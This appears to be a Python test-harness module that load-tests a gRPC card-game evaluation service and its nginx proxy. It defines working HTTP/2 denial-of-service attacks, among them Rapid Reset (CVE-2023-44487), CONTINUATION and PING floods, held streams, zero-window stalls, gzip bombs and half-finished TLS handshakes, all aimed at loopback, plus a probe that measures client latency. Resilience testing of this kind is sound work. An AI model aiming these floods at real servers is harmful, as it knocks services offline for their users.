"""The HTTP/2 attacks, each defined once: on the server itself (:data:`DIRECT_ATTACKS`,
run by scripts/slow_peers.py) and through the front proxy (:data:`PROXY_ATTACKS`, run by
scripts/edge_proxy.py, tests/grpc/test_proxy.py and benches/bench_proxy.py), and the
probe that measures a well-behaved client meanwhile (:func:`probe`).

An attack is ``def attack(target: str, stop: threading.Event) -> None``: it attacks
``target`` from the attacker's loopback address (:data:`ATTACKER`) until ``stop`` is set;
every loop is bounded by ``stop`` and by a count. Loopback only.
"""

from __future__ import annotations

import gzip
import os
import random
import socket
import struct
import threading
import time
from typing import Callable, Dict, List, Optional, Tuple

import grpc

from handeval.v2 import common_pb2, handeval_pb2 as pb, handeval_pb2_grpc, shisanshui_pb2 as ssw
from harness.deck import DECK
from harness.h2raw import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    RawConnection,
    call_headers,
    closed_by_peer,
    frame,
    header_block,
)

CONTINUATION = 0x9
CANCEL = 0x8
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
EVALUATE = "/handeval.v2.Handeval/Evaluate"
#: The attackers' source address: another loopback address than the probes' 127.0.0.1,
#: as a real attacker's address differs from the real clients'.
ATTACKER = "127.0.0.2"


def host_port(target: str) -> Tuple[str, int]:
    host, _, port = target.rpartition(":")
    return host, int(port)


# ---- attacks through the proxy (and the floods both kinds share)


def connect_through_proxy(target: str, source: str = ATTACKER) -> Optional[RawConnection]:
    """An attacker's connection to the proxy at ``target``, once the proxy's settings are
    acknowledged (:func:`settled`); None when it cannot connect."""
    host, port = host_port(target)
    try:
        c = RawConnection(host, port, source=source)
    except OSError:
        return None
    # its reader waits for the proxy as long as an attack lasts: ``closed`` is the proxy
    # closing it, not the reader giving up after the connect timeout
    c.sock.settimeout(120)
    settled(c)
    return c


def settled(c: RawConnection, timeout: float = 10.0) -> bool:
    """Wait until the proxy's SETTINGS are acknowledged (its connection WINDOW_UPDATE,
    which follows them, has arrived; the reader acknowledges SETTINGS as it reads them):
    with http2_body_preread_size below 64 KiB nginx refuses a stream that carries a body
    before that (REFUSED_STREAM), so an attacker that waits is the stronger one."""
    with c._credit:
        return c._credit.wait_for(lambda: c.credit > 65535 or c.closed.is_set(), timeout)


def continuation_frames(stream: int, authority: str, frames: int, size: int = 8192, headers: bool = True) -> bytes:
    """A call's HEADERS without END_HEADERS (``headers``), then ``frames`` CONTINUATION
    frames of ``size`` bytes of header fields each, none of them ending the header block."""
    out = bytearray()
    if headers:
        out += frame(HEADERS, 0, stream, header_block([(":method", "POST"), (":scheme", "http"), (":path", EVALUATE),
                                                       (":authority", authority), ("content-type", "application/grpc")]))  # fmt: skip
    junk = header_block([("x-flood", "a" * (size - 16))])
    for _ in range(frames):
        out += frame(CONTINUATION, 0, stream, junk)
    return bytes(out)


def flood(
    target: str,
    stop: threading.Event,
    connections: int,
    burst: Callable[[RawConnection], bytes],
    limit: int,
    connect: Callable[[str], Optional[RawConnection]],
    after_goaway: bool = True,
) -> None:
    """``connections`` attacker connections (``connect(target)``), each sent ``burst(conn)``
    again and again until ``stop`` (at most ``limit`` bursts in all); a connection the peer
    closed is opened again, and with ``after_goaway`` one it sent GOAWAY on (the proxy's
    attacker moves on at once; the server's keeps sending until the server closes it)."""
    conns: List[Optional[RawConnection]] = [None] * connections
    sent = 0
    while not stop.is_set() and sent < limit:
        for i in range(connections):
            c = conns[i]
            if c is None or c.closed.is_set() or (after_goaway and c.goaway):
                if c is not None:
                    c.close()
                c = conns[i] = connect(target)
                if c is None:
                    stop.wait(0.01)
                    continue
            if not c.send(burst(c)):
                c.close()
                conns[i] = None
            sent += 1
    for c in conns:
        if c is not None:
            c.close()


def attack_continuation_flood(target: str, stop: threading.Event, limit: int = 1_000_000) -> None:
    """4 connections: HEADERS without END_HEADERS, then CONTINUATION frames without end
    (8 KiB of header fields each, 32 per burst) for as long as the connection stays open
    (through the proxy; :func:`attack_endless_header_block` is the server's)."""

    def burst(c: RawConnection) -> bytes:
        if not hasattr(c, "flood_stream"):
            c.flood_stream = c.next_stream
            c.next_stream += 2
            return continuation_frames(c.flood_stream, c.authority, 32)
        return continuation_frames(c.flood_stream, c.authority, 32, headers=False)

    flood(target, stop, 4, burst, limit, connect_through_proxy)


def rapid_reset_burst(c: RawConnection, n: int = 100) -> bytes:
    """``n`` calls' HEADERS, each followed at once by RST_STREAM (CANCEL)."""
    out = bytearray()
    for _ in range(n):
        s = c.next_stream
        c.next_stream += 2
        out += call_headers(s, EVALUATE, c.authority) + frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL))
    return bytes(out)


def attack_rapid_reset(
    target: str,
    stop: threading.Event,
    limit: int = 1_000_000,
    connect: Optional[Callable[[str], Optional[RawConnection]]] = None,
) -> None:
    """20 connections: HEADERS of an Evaluate then RST_STREAM at once, in bursts of 100
    streams (CVE-2023-44487); a closed connection is opened again (through the proxy, one
    after GOAWAY too). ``connect``: :func:`connect_direct` for the server itself."""
    direct = connect is connect_direct
    flood(target, stop, 20, rapid_reset_burst, limit, connect or connect_through_proxy, after_goaway=not direct)


def attack_ping_flood(
    target: str,
    stop: threading.Event,
    limit: int = 1_000_000,
    connect: Optional[Callable[[str], Optional[RawConnection]]] = None,
    pings: int = 100,
) -> None:
    """4 connections: PING frames in bursts of ``pings``, reconnecting when closed (through
    the proxy, after GOAWAY too). ``connect``: :func:`connect_direct` for the server itself."""
    burst = frame(PING, 0, 0, b"\0" * 8) * pings
    direct = connect is connect_direct
    flood(target, stop, 4, lambda c: burst, limit, connect or connect_through_proxy, after_goaway=not direct)


#: Rows of the Evaluate whose answer is never read: the request (7,688 bytes) fits one
#: stream's receive window at the proxy (http2_body_preread_size, 8 KiB: a larger one
#: sent whole breaks HTTP/2 flow control and is reset), the answer is about 3 times as large.
ROWS = 480


def big_answer_request() -> bytes:
    """An Evaluate of :data:`ROWS` three-card rows as one gRPC message (uncompressed: the
    proxy refuses compressed requests)."""
    row = ssw.ShisanshuiEvaluateItem(row=common_pb2.Cards(cards="As Ks Qs".split()))
    msg = pb.EvaluateRequest(shisanshui=ssw.ShisanshuiEvaluateRequest(items=[row] * ROWS)).SerializeToString()
    return b"\x00" + struct.pack(">I", len(msg)) + msg


def compressed_call_headers(stream: int, authority: str) -> bytes:
    block = header_block(
        [(":method", "POST"), (":scheme", "http"), (":path", EVALUATE), (":authority", authority),
         ("content-type", "application/grpc"), ("te", "trailers"), ("grpc-encoding", "gzip")]
    )  # fmt: skip
    return frame(HEADERS, END_HEADERS, stream, block)


def whole_call(stream: int, authority: str, message: bytes, compressed: bool = False) -> bytes:
    """A call's HEADERS and its whole request in DATA frames of at most 16 KiB."""
    out = bytearray(
        compressed_call_headers(stream, authority) if compressed else call_headers(stream, EVALUATE, authority)
    )
    chunks = [message[i : i + 16384] for i in range(0, len(message), 16384)]
    for i, chunk in enumerate(chunks):
        out += frame(DATA, END_STREAM if i == len(chunks) - 1 else 0, stream, chunk)
    return bytes(out)


def open_unread_calls(c: RawConnection, calls: int, request: bytes) -> None:
    """Stream windows 0 (SETTINGS_INITIAL_WINDOW_SIZE = 0: no answer byte may be sent),
    then ``calls`` whole calls asking big answers."""
    out = bytearray(frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0)))
    for _ in range(calls):
        s = c.next_stream
        c.next_stream += 2
        out += whole_call(s, c.authority, request)
    c.send(bytes(out))


def attack_unread_answers_many_addresses(
    target: str, stop: threading.Event, limit: int = 100_000, addresses: int = 4
) -> None:
    """``addresses`` loopback addresses × 20 connections that never read their answers
    (window 0), 16 calls of :data:`ROWS` rows each; every 2 s the closed ones are opened again."""
    request = big_answer_request()
    conns: List[RawConnection] = []
    opened = 0
    while not stop.is_set() and opened < limit:
        conns = [c for c in conns if not c.closed.is_set() or c.close()]
        for a in range(addresses):
            for _ in range(20 - sum(1 for c in conns if c.source == f"127.0.1.{a + 2}")):
                c = connect_through_proxy(target, source=f"127.0.1.{a + 2}")
                if c is None:
                    continue
                c.source = f"127.0.1.{a + 2}"
                open_unread_calls(c, 16, request)
                conns.append(c)
                opened += 1
        stop.wait(2.0)
    for c in conns:
        c.close()


def attack_half_sent_many_addresses(target: str, stop: threading.Event, limit: int = 100_000) -> None:
    """59 loopback addresses × 2 connections × 16 calls that send their HEADERS and 10 of
    their 1,000 request bytes; every 2 s the ended ones are opened again."""
    conns: Dict[Tuple[int, int], RawConnection] = {}
    sent: Dict[Tuple[int, int], int] = {}
    opened = 0
    while not stop.is_set() and opened < limit:
        for a in range(59):
            for k in range(2):
                if stop.is_set():
                    break
                key = (a, k)
                c = conns.get(key)
                if c is None or c.closed.is_set() or c.goaway:
                    if c is not None:
                        c.close()
                    c = connect_through_proxy(target, source=f"127.0.2.{a + 2}")
                    if c is None:
                        continue
                    conns[key], sent[key] = c, 0
                missing = 16 - (sent[key] - len(c.ended))
                if missing > 0:
                    sent[key] += c.open_slow_calls(missing, EVALUATE)
                    opened += missing
        stop.wait(2.0)
    for c in conns.values():
        c.close()


def partial_client_hello() -> bytes:
    """The first bytes of a TLS ClientHello record: a handshake the peer never finishes."""
    return bytes((0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC, 0x03, 0x03)) + os.urandom(16)


def held_handshake(target: str, timeout: float = 5.0) -> socket.socket:
    """A connection from :data:`ATTACKER` that sends part of a ClientHello and nothing
    more (the send may fail: a proxy may close it at once). OSError if it cannot connect."""
    host, port = host_port(target)
    s = socket.socket()
    try:
        s.bind((ATTACKER, 0))
        s.settimeout(timeout)
        s.connect((host, port))
    except OSError:
        s.close()
        raise
    try:
        s.sendall(partial_client_hello())
    except OSError:
        pass  # already closed by the peer
    return s


def attack_held_tls_handshakes(target: str, stop: threading.Event, sockets: int = 1200) -> None:
    """``sockets`` connections that each send part of a ClientHello and nothing more; the
    ones the proxy closed are opened again every second."""
    held: List[socket.socket] = []
    while not stop.is_set():
        held = [s for s in held if not closed_by_peer(s) or s.close()]
        for _ in range(sockets - len(held)):
            if stop.is_set():
                break
            try:
                held.append(held_handshake(target))
            except OSError:
                pass
        stop.wait(1.0)
    for s in held:
        s.close()


def bomb_request(inflated: int = 48 << 20) -> bytes:
    """A gzip gRPC message of ``inflated`` zero bytes (about 1/1000 of it sent)."""
    body = gzip.compress(b"\0" * inflated, 9)
    return b"\x01" + struct.pack(">I", len(body)) + body


def send_bomb(c: RawConnection, request: bytes) -> int:
    """One gzip call carrying ``request``; its stream."""
    s = c.next_stream
    c.next_stream += 2
    c.send(whole_call(s, c.authority, request, compressed=True))
    return s


def attack_compression_bomb(target: str, stop: threading.Event, limit: int = 10_000) -> None:
    """Calls whose gzip request inflates to 48 MiB (about 48 KB sent), 4 in flight at a
    time, back to back."""
    request = bomb_request()
    sent = 0
    while not stop.is_set() and sent < limit:
        c = connect_through_proxy(target)
        if c is None:
            stop.wait(0.05)
            continue
        streams = [send_bomb(c, request) for _ in range(4)]
        sent += 4
        t = time.monotonic()
        while not stop.is_set() and not c.closed.is_set() and not set(streams) <= c.ended and time.monotonic() - t < 10:
            stop.wait(0.01)
        c.close()


#: The attacks aimed through the proxy (scripts/edge_proxy.py, benches/bench_proxy.py):
#: (name, attack, needs TLS at the proxy)
PROXY_ATTACKS: List[Tuple[str, Callable[[str, threading.Event], None], bool]] = [
    ("continuation_flood", attack_continuation_flood, False),
    ("rapid_reset", attack_rapid_reset, False),
    ("ping_flood", attack_ping_flood, False),
    ("unread_answers", attack_unread_answers_many_addresses, False),
    ("half_sent_many_addresses", attack_half_sent_many_addresses, False),
    ("compression_bomb", attack_compression_bomb, False),
    ("held_tls_handshakes", attack_held_tls_handshakes, True),
]


def addresses_bindable() -> bool:
    """Whether this machine's loopback takes the attackers' addresses (Linux: all of 127/8)."""
    try:
        with socket.socket() as s:
            s.bind(("127.0.2.60", 0))
        return True
    except OSError:
        return False


# ---- attacks on the server itself (scripts/slow_peers.py)

#: How often a hold attack opens again the calls the server ended: an attacker keeping
#: its calls open, not a flood of new calls (which costs the server CPU per call, a
#: different attack).
HOLD_REFILL_S = float(os.environ.get("SLOW_PEERS_REFILL_S", "2"))


def _hold_streams(target: str, stop: threading.Event, sockets: int, calls: int, refill: float) -> None:
    """``sockets`` connections, each opening ``calls`` Evaluate calls that announce 1,000
    request bytes and send 10; every ``refill`` seconds the calls the server ended (or
    refused) are opened again, and a connection the server closed is opened again, until
    ``stop``."""
    host, port = host_port(target)
    conns: List[RawConnection] = []
    sent: List[int] = []
    while not stop.is_set():
        for i in range(sockets):
            if stop.is_set():
                break
            if i >= len(conns) or conns[i].closed.is_set():
                try:
                    c = RawConnection(host, port, source=ATTACKER)
                except OSError:
                    continue
                if i < len(conns):
                    conns[i].close()
                    conns[i], sent[i] = c, 0
                else:
                    conns.append(c)
                    sent.append(0)
                sent[i] += c.open_slow_calls(calls, EVALUATE)
            else:
                c = conns[i]
                missing = calls - (sent[i] - len(c.ended))  # the server ended the others
                if missing > 0:
                    sent[i] += c.open_slow_calls(missing, EVALUATE)
        stop.wait(refill)
    for c in conns:
        c.close()


def attack_stream_hold_one_connection(target: str, stop: threading.Event) -> None:
    """1,100 calls on one connection, each with 10 of its 1,000 request bytes."""
    _hold_streams(target, stop, 1, 1100, HOLD_REFILL_S)


def attack_stream_hold_200_sockets(target: str, stop: threading.Event) -> None:
    """200 connections × 100 such calls."""
    _hold_streams(target, stop, 200, 100, HOLD_REFILL_S)


GARBAGE_METHODS = (
    "/grpc.health.v1.Health/Check",
    "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
    EVALUATE,
    "/handeval.v2.Handeval/Settle",
    "/handeval.v2.Handeval/Arrange",
)


def _garbage(rng: random.Random) -> bytes:
    return bytes(rng.getrandbits(8) for _ in range(rng.randrange(1, 200)))


def garbage_call(channel, method: str, rng: random.Random, timeout=5.0) -> grpc.StatusCode:
    try:
        if "Reflection" in method:
            call = channel.stream_stream(method, request_serializer=None, response_deserializer=None)
            for _ in call(iter([_garbage(rng)]), timeout=timeout):
                pass
        else:
            channel.unary_unary(method, request_serializer=None, response_deserializer=None)(
                _garbage(rng), timeout=timeout
            )
        return grpc.StatusCode.OK
    except grpc.RpcError as e:
        return e.code()


def attack_garbage_flood(target: str, stop: threading.Event) -> None:
    """Random bytes to health, reflection and the Handeval methods, back to back."""
    rng = random.Random(1)
    with grpc.insecure_channel(target, options=[("grpc.use_local_subchannel_pool", 1)]) as ch:
        while not stop.is_set():
            garbage_call(ch, rng.choice(GARBAGE_METHODS), rng)


def attack_deadline_flood(target: str, stop: threading.Event) -> None:
    """Settle calls of 2,000 deals with a 5 ms deadline, back to back: each expires."""
    deals = pb.SettleRequest(shisanshui=ssw.ShisanshuiSettleRequest(deals=[_deal(random.Random(i)) for i in range(50)]))
    data = deals.SerializeToString()
    big = pb.SettleRequest()
    big.MergeFromString(data * 40)
    with grpc.insecure_channel(target, options=[("grpc.use_local_subchannel_pool", 1)]) as ch:
        stub = handeval_pb2_grpc.HandevalStub(ch)
        while not stop.is_set():
            try:
                stub.Settle(big, timeout=0.005)
            except grpc.RpcError:
                pass


def connect_direct(target: str) -> Optional[RawConnection]:
    """An attacker's connection to the server at ``target``; None when it cannot connect."""
    found = _connections(target, 1)
    return found[0] if found else None


def _connections(target: str, n: int, **kw) -> List[RawConnection]:
    host, port = host_port(target)
    out = []
    for _ in range(n):
        try:
            out.append(RawConnection(host, port, source=ATTACKER, timeout=60, **kw))
        except OSError:
            pass
    return out


def _reopen(target: str, conns: List[RawConnection], **kw) -> None:
    """Replace the connections the server closed (an attacker reconnects)."""
    for i, c in enumerate(conns):
        if c.closed.is_set():
            c.close()
            fresh = _connections(target, 1, **kw)
            if fresh:
                conns[i] = fresh[0]


def attack_endless_header_block(target: str, stop: threading.Event) -> None:
    """4 connections, each a call whose header block never ends: HEADERS without
    END_HEADERS, then CONTINUATION frames of small complete header fields, as fast as
    the server reads them (each connection first makes one complete call, so the
    janitor sees a served connection); a closed connection is opened again. The server's
    continuation flood (through the proxy: :func:`attack_continuation_flood`)."""
    conns = _connections(target, 4)
    for c in conns:
        c.call(EVALUATE, b"", wait=5)
    while not stop.is_set():
        for c in conns:
            if not c.closed.is_set():
                c.open_continuation_flood(EVALUATE, 16, endless_value=False)
        _reopen(target, conns)
    for c in conns:
        c.close()


def attack_watch_flood(target: str, stop: threading.Event) -> None:
    """16 connections × 16 health Watch streams (no token), reopened when ended."""
    conns = _connections(target, 16)
    watch = "/grpc.health.v1.Health/Watch"
    while not stop.is_set():
        for c in conns:
            live = sum(1 for s in getattr(c, "watches", ()) if s not in c.ended)
            for _ in range(16 - live):
                sid = c.call(watch, b"", wait=1)
                if sid:
                    c.__dict__.setdefault("watches", []).append(sid)
        _reopen(target, conns)
        stop.wait(1.0)
    for c in conns:
        c.close()


#: 3,000 fronts: 48 KB asking a ~96 KB answer.
_WIDE = pb.EvaluateRequest(
    shisanshui=ssw.ShisanshuiEvaluateRequest(
        items=[ssw.ShisanshuiEvaluateItem(row=common_pb2.Cards(cards="As Ks Qs".split()))] * 3000
    )
).SerializeToString()


def attack_unread_answers(target: str, stop: threading.Event) -> None:
    """20 connections announcing a window of 0 (they never read), each making calls with
    ~96 KB answers back to back; a closed connection is opened again."""
    conns = _connections(target, 20, window=0)
    while not stop.is_set():
        for c in conns:
            if not c.closed.is_set():
                c.call(EVALUATE, _WIDE, wait=0.05)
        _reopen(target, conns, window=0)
    for c in conns:
        c.close()


def attack_gzip_bomb(target: str, stop: threading.Event) -> None:
    """4 connections sending gzip Evaluate requests that inflate to 32 MiB (~32 KB
    sent each), back to back."""
    import gzip

    bomb = gzip.compress(bytes(32 << 20), 9)
    conns = _connections(target, 4)
    while not stop.is_set():
        for c in conns:
            if not c.closed.is_set():
                c.call(EVALUATE, bomb, wait=0.2, extra=[("grpc-encoding", "gzip")], compressed=True)
        _reopen(target, conns)
    for c in conns:
        c.close()


def attack_bad_encoding(target: str, stop: threading.Event) -> None:
    """Calls with ``grpc-encoding: br`` (gRPC core logs a line for each), back to back."""
    conns = _connections(target, 1)
    while not stop.is_set():
        for c in conns:
            c.call(EVALUATE, b"", wait=1, extra=[("grpc-encoding", "br")])
        _reopen(target, conns)
    for c in conns:
        c.close()


def _deal(rng: random.Random):
    c = rng.sample(DECK, 52)
    return ssw.ShisanshuiDeal(
        players=[
            ssw.ShisanshuiPlayer(
                arrangement=ssw.ShisanshuiArrangement(
                    front=common_pb2.Cards(cards=c[13 * i : 13 * i + 3]),
                    middle=common_pb2.Cards(cards=c[13 * i + 3 : 13 * i + 8]),
                    back=common_pb2.Cards(cards=c[13 * i + 8 : 13 * i + 13]),
                )
            )
            for i in range(4)
        ]
    )


#: The attacks on the server itself (scripts/slow_peers.py): (name, attack).
DIRECT_ATTACKS: List[Tuple[str, Callable[[str, threading.Event], None]]] = [
    ("stream_hold_one_connection", attack_stream_hold_one_connection),
    ("stream_hold_200_sockets", attack_stream_hold_200_sockets),
    ("garbage_flood", attack_garbage_flood),
    ("deadline_flood", attack_deadline_flood),
    ("continuation_flood", attack_endless_header_block),
    ("watch_flood", attack_watch_flood),
    ("unread_answers", attack_unread_answers),
    ("rapid_reset", lambda t, s: attack_rapid_reset(t, s, connect=connect_direct)),
    ("ping_flood", lambda t, s: attack_ping_flood(t, s, connect=connect_direct, pings=256)),
    ("gzip_bomb", attack_gzip_bomb),
    ("bad_encoding", attack_bad_encoding),
]


# ---- probes

TINY = pb.EvaluateRequest(
    shisanshui=ssw.ShisanshuiEvaluateRequest(
        items=[ssw.ShisanshuiEvaluateItem(row=common_pb2.Cards(cards="As Ks Qs".split()))]
    )
)


def probe(target: str, seconds: float) -> dict:
    """For ``seconds``: tiny calls back to back on one connection (their latencies), and
    every 0.1 s a tiny call on a new connection (1 s deadline; the longest run of refused
    ones, from the first refused call's start to the next served one's end)."""
    stop = threading.Event()
    lat: List[float] = []
    failed = [0]
    codes: dict = {}
    news: List[Tuple[float, float, bool]] = []

    def connected():
        with grpc.insecure_channel(target) as ch:
            stub = handeval_pb2_grpc.HandevalStub(ch)
            while not stop.is_set():
                t = time.perf_counter()
                try:
                    stub.Evaluate(TINY, timeout=10)
                    lat.append(time.perf_counter() - t)
                except grpc.RpcError as e:
                    failed[0] += 1
                    codes[e.code().name] = codes.get(e.code().name, 0) + 1

    def new_clients():
        while not stop.is_set():
            t = time.monotonic()
            with grpc.insecure_channel(target, options=[("grpc.use_local_subchannel_pool", 1)]) as ch:
                try:
                    handeval_pb2_grpc.HandevalStub(ch).Evaluate(TINY, timeout=1.0)
                    ok = True
                except grpc.RpcError as e:
                    ok = False
                    codes["new " + e.code().name] = codes.get("new " + e.code().name, 0) + 1
            news.append((t, time.monotonic(), ok))
            stop.wait(0.1)

    threads_ = [threading.Thread(target=connected, daemon=True), threading.Thread(target=new_clients, daemon=True)]
    for t in threads_:
        t.start()
    stop.wait(seconds)
    stop.set()
    for t in threads_:
        t.join(30)
    longest, since = 0.0, None
    for start, end, ok in news:
        if not ok and since is None:
            since = start
        elif ok and since is not None:
            longest, since = max(longest, end - since), None
    if since is not None:
        longest = max(longest, news[-1][1] - since)
    ms = sorted(x * 1000 for x in lat)
    q = (lambda f: ms[min(len(ms) - 1, int(f * len(ms)))]) if ms else (lambda f: float("nan"))
    return {
        "calls": len(ms),
        "failed": failed[0],
        "p50": q(0.5),
        "p99": q(0.99),
        "max": ms[-1] if ms else float("nan"),
        "codes": codes,
        "new": len(news),
        "new_refused": sum(not ok for _, _, ok in news),
        "refused_s": longest,
    }
